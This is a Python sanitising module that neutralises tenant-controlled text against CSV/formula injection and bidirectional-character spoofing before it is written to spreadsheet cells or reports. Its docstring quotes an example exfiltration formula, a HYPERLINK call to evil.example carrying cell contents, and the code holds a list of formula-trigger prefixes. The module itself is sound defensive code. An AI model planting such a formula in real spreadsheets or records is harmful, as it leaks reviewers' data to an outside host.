"""Neutralise tenant-controlled text before it lands in a spreadsheet cell (Excel or CSV).

Why this exists: every string in a report comes from the audited tenant (display names, job titles,
named-location names, ...) and anyone who can edit a user in that tenant controls it. A spreadsheet
application treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula — and tab or
carriage return are used to smuggle one past naive checks — so a display name such as
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run in the reviewer's Excel ("CSV/formula
injection", OWASP). openpyxl even turns any string starting with ``=`` into a real formula. We prefix
such values with an apostrophe, which every spreadsheet shows as literal text, and drop the control
characters XML cannot hold (openpyxl would otherwise refuse to save the workbook).

Only strings are touched: numbers, booleans and dates the renderer itself produced stay typed.

Bidirectional overrides (U+202A-U+202E, U+2066-U+2069) let a display name show reversed text (an
``exe.txt`` that reads ``txt.exe``); :func:`visible` replaces them, NUL and the other control
characters with a visible ``[U+202E]`` marker for any report format (HTML, e-mail, JSON text);
spreadsheet cells get the same bidi markers from :func:`neutralise`.
"""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Characters that are illegal in XML 1.0 (same set openpyxl rejects), except tab/LF/CR.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
MAX_CELL_CHARS = 32_000  # Excel's hard limit is 32,767 characters per cell
_UNSAFE_NAME = re.compile(r"[^A-Za-z0-9_.-]+")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def _marker(match: re.Match[str]) -> str:
    return f"[U+{ord(match.group()):04X}]"


def visible(value: str) -> str:
    """``value`` with NUL, control characters and bidirectional overrides shown as ``[U+XXXX]`` markers.

    Tab, line feed and carriage return are kept (callers that need one line handle those).
    """
    return _INVISIBLE.sub(_marker, value)


def visible_deep(value: Any) -> Any:
    """``visible`` over every string inside lists and dicts (keys too); other values unchanged."""
    if isinstance(value, str):
        return visible(value) if _INVISIBLE.search(value) else value
    if isinstance(value, list | tuple):
        return [visible_deep(v) for v in value]
    if isinstance(value, dict):
        return {visible_deep(k): visible_deep(v) for k, v in value.items()}
    return value


def one_line(value: object) -> str:
    """``visible`` text on one line: line breaks (and runs of whitespace) become single spaces."""
    return " ".join(visible(str(value)).split())


def file_component(value: object, default: str = "tenant", limit: int = 64) -> str:
    """``value`` as one harmless file or folder name: no separators, no ``..``, no leading dot or dash.

    Tenant names normally match the config pattern already; a name read from a snapshot file or the
    command line may not, and must never steer a path outside the report folder.
    """
    text = _UNSAFE_NAME.sub("_", str(value or "")).lstrip(".-_")[:limit]
    return text or default


def neutralise(value: str) -> str:
    """Return ``value`` as text a spreadsheet will never evaluate as a formula."""
    value = _BIDI.sub(_marker, _ILLEGAL.sub("", value))
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
    if len(value) > MAX_CELL_CHARS:
        value = value[: MAX_CELL_CHARS - 1] + "…"
    return value


def cell_value(value: Any) -> Any:
    """Make any value safe and writable as a spreadsheet cell.

    Strings are neutralised; naive/aware datetimes become naive UTC (Excel has no time zones);
    lists are joined with ", "; None stays empty; other objects become neutralised text.
    """
    if type(value) is str:  # the common case first: this runs once per spreadsheet cell
        return neutralise(value)
    if value is not None and type(value).__module__ == "numpy":
        value = value.item()  # numpy scalar (from a pandas table) -> Python value
    if value is None or isinstance(value, bool | int | float):
        if isinstance(value, float) and value != value:  # NaN
            return None
        return value
    if isinstance(value, datetime):
        if value != value:  # pandas NaT
            return None
        if value.tzinfo is not None:
            value = value.astimezone(UTC).replace(tzinfo=None)
        return value.to_pydatetime() if hasattr(value, "to_pydatetime") else value
    if isinstance(value, date):
        return value
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, list | tuple | set | frozenset):
        return neutralise(", ".join(str(v) for v in value if v is not None))
    return neutralise(str(value))
